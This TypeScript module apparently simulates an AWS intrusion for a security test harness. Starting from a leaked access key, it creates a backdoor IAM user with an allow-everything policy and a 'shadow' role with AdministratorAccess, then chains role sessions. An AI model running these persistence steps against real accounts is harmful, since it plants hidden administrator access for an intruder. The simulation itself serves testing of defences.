import {
  AttachRolePolicyCommand,
  CreateRoleCommand,
  CreateUserCommand,
  PutUserPolicyCommand,
} from '@aws-sdk/client-iam';
import type { Principal } from '../clients';
import type { Organization } from '../organization';

/** What the intruder holds before anybody has noticed. */
export interface Foothold {
  /** The key that leaked. */
  readonly key: Principal;
  /** A session token of the same user, good for hours. */
  readonly token: Principal;
  /** A session of the role of the shop server. */
  readonly role: Principal;
  /** A session of another role, from that one. */
  readonly chained: Principal;
  /** A session of the role that the intruder made to come back by. */
  readonly shadow: Principal;
}

/** Names of what the intruder makes. */
export const PERSISTENCE = { user: 'support', role: 'shadow' } as const;

/** Plays the attack: pivots and persistence, with nothing but a leaked key. Enforcement is on. */
export async function attack({ intruder, accounts }: Organization): Promise<Foothold> {
  const role = (name: string) => `arn:aws:iam::${accounts.payments}:role/${name}`;
  const iam = intruder.iam();
  await iam.send(new CreateUserCommand({ UserName: PERSISTENCE.user }));
  await iam.send(new PutUserPolicyCommand(everything(PERSISTENCE.user)));
  const trust = {
    Version: '2012-10-17',
    Statement: [
      { Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${accounts.payments}:root` }, Action: 'sts:AssumeRole' },
    ],
  };
  await iam.send(
    new CreateRoleCommand({ RoleName: PERSISTENCE.role, AssumeRolePolicyDocument: JSON.stringify(trust) }),
  );
  await iam.send(
    new AttachRolePolicyCommand({
      RoleName: PERSISTENCE.role,
      PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
    }),
  );
  const app = await intruder.assume(role('app'));
  return {
    key: intruder,
    token: await intruder.session(),
    role: app,
    chained: await app.assume(role('reports')),
    shadow: await intruder.assume(role(PERSISTENCE.role)),
  };
}

/** An inline policy that allows everything. */
export function everything(user: string) {
  const statement = { Effect: 'Allow', Action: '*', Resource: '*' };
  return {
    UserName: user,
    PolicyName: 'support',
    PolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [statement] }),
  };
}
